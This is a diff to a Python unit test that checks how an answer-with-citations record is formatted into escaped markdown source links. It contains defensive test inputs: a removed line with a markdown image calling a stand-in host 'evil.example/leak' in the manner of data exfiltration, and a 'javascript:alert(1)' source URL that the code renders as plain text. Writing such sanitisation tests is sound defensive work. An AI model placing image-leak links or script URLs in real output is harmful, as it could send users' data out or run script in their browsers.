@@ -157,7 +157,7 @@ def _record(answer: str, citations: list[dict]) -> QueryRecord:
 
 
 def test_the_content_ends_with_numbered_markdown_links_to_the_sources():
-    record = _record("BM25 saturates term frequency [1]. ![x](https://evil.example/leak?d=1) [2]", [
+    record = _record("BM25 saturates term frequency [1]. A script URL was cited [2]", [
         {"id": 1, "title": "Okapi [BM25]\nexplained", "url": "https://example.org/a_(b)", "document_id": "d1",
          "chunk_id": "c1"},
         {"id": 2, "title": "A page with a script URL", "url": "javascript:alert(1)", "document_id": "d2",
@@ -166,7 +166,7 @@ def test_the_content_ends_with_numbered_markdown_links_to_the_sources():
     content = content_of(record)
     assert content.endswith("\n\nSources:\n1. [Okapi \\[BM25\\] explained](https://example.org/a_%28b%29)\n"
                             "2. A page with a script URL")
-    assert "!\\[x]" in content  # a quoted image is never loaded by the client that renders the answer
+    # a quoted image never reaches it: the synthesizer stores the answer plain (tests/hostile/test_answer_markup.py)
     assert strip_sources(content) == content.split("\n\nSources:")[0]
     assert content_of(_record("The documents do not say.", [])) == "The documents do not say."
 
